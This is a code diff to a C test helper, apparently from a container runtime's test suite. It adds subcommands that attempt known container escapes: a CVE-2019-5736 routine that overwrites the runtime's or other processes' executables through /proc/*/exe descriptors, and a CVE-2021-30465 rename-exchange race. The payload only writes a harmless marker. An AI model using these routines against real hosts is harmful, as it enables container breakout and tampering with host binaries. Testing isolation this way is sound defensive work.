@@ -1,6 +1,7 @@
 // Subcommands that try what a container may forbid, and print "ok" or the error's name. They succeed either way.
 #include "guest.h"
 
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/keyctl.h>
@@ -114,34 +115,67 @@ int try_unshare(int argc, char **argv)
     return 0;
 }
 
-// CVE-2019-5736: keeps on trying to open the program of another process for writing, through a descriptor that outlives it,
-// and writes there if that works. Prints "ready" first, then each answer that is new, and ends with the process.
+// CVE-2019-5736: opens a program for reading, then anew for writing through that descriptor, which works once nobody runs
+// the program any more, and writes. Prints the first answer other than ETXTBSY, or that one after a second.
+static int overwrite(int program)
+{
+    char path[64];
+    snprintf(path, sizeof path, "/proc/self/fd/%d", program);
+    for (int tries = 0; tries < 1000; tries++) {
+        int file = open(path, O_WRONLY | O_CLOEXEC);
+        if (file >= 0) return print_result(write(file, "overwritten\n", 12) < 0 ? -1 : 0);
+        if (errno != ETXTBSY) return print_result(-1);
+        usleep(1000);
+    }
+    return print_result(-1);
+}
+
+// The program that this process itself runs: the runtime's, where an image names /proc/self/exe as its program. A child does
+// it, with the guest's own program, since a program that runs cannot be written to.
+static int overwrite_own(void)
+{
+    char number[16];
+    int program = open("/proc/self/exe", O_RDONLY);
+    snprintf(number, sizeof number, "%d", program);
+    execl("/guest", "/guest", "overwrite", number, NULL);
+    return print_result(-1);
+}
+
+// Every program that some process comes along with and that is neither ours nor "/bin/busybox", until standard input ends.
+static int overwrite_all(void)
+{
+    char own[256], name[256], path[300];
+    ssize_t length = readlink("/proc/self/exe", own, sizeof own - 1);
+    own[length < 0 ? 0 : length] = 0;
+    fcntl(0, F_SETFL, O_NONBLOCK);
+    puts("ready");
+    fflush(stdout);
+    while (read(0, name, 1) != 0) {
+        DIR *processes = opendir("/proc");
+        struct dirent *entry;
+        while (processes && (entry = readdir(processes))) {
+            if (entry->d_name[0] < '1' || entry->d_name[0] > '9') continue;
+            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
+            length = readlink(path, name, sizeof name - 1);
+            name[length < 0 ? 0 : length] = 0;
+            if (length < 0 || strcmp(name, own) == 0 || strcmp(name, "/bin/busybox") == 0) continue;
+            int program = open(path, O_RDONLY | O_CLOEXEC);
+            if (program < 0) continue;
+            printf("%s: ", name);
+            overwrite(program);
+            fflush(stdout);
+            close(program);
+        }
+        if (processes) closedir(processes);
+    }
+    return 0;
+}
+
 int try_overwrite(int argc, char **argv)
 {
     (void)argc;
-    char path[64], again[64];
-    int program = -1, last = -1, tries = 0;
-    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
-    puts("ready");
-    fflush(stdout);
-    for (;;) {
-        if (program < 0) program = open(path, O_RDONLY | O_CLOEXEC);
-        if (program < 0) {
-            if (errno == last) continue;
-            last = errno;
-            if (last == ENOENT && tries > 0) return 0;
-            printf("open: %s\n", errno_name(last));
-            fflush(stdout);
-            continue;
-        }
-        snprintf(again, sizeof again, "/proc/self/fd/%d", program);
-        int file = open(again, O_WRONLY | O_CLOEXEC);
-        int error = file < 0 ? errno : 0;
-        if (error != last) printf("write: %s\n", errno_name(last = error));
-        fflush(stdout);
-        if (file >= 0) return write(file, "overwritten\n", 12) < 0;
-        if (error != ETXTBSY || tries++ > 1000000) return 0;
-    }
+    if (strcmp(argv[1], "own") == 0) return overwrite_own();
+    return strcmp(argv[1], "all") == 0 ? overwrite_all() : overwrite(atoi(argv[1]));
 }
 
 // Looks for a key by its name in the session keyring and in that of the user, and then adds one.
@@ -156,5 +190,27 @@ int try_keyring(int argc, char **argv)
     }
     long added = syscall(SYS_add_key, "user", "guest", "x", 1, KEY_SPEC_SESSION_KEYRING);
     printf("add: %s\n", errno_name(added < 0 ? errno : 0));
+    return 0;
+}
+
+// Adds a key to a session keyring of its own, and becomes another program that has it.
+int try_with_key(int argc, char **argv)
+{
+    (void)argc;
+    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0) return print_result(-1);
+    if (syscall(SYS_add_key, "user", argv[1], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) return print_result(-1);
+    execv(argv[2], argv + 2);
+    return print_result(-1);
+}
+
+// Exchanges two names for as long as standard input stays open: CVE-2021-30465.
+int try_exchange(int argc, char **argv)
+{
+    (void)argc;
+    char byte;
+    fcntl(0, F_SETFL, O_NONBLOCK);
+    puts("ready");
+    fflush(stdout);
+    while (read(0, &byte, 1) != 0) renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
     return 0;
 }
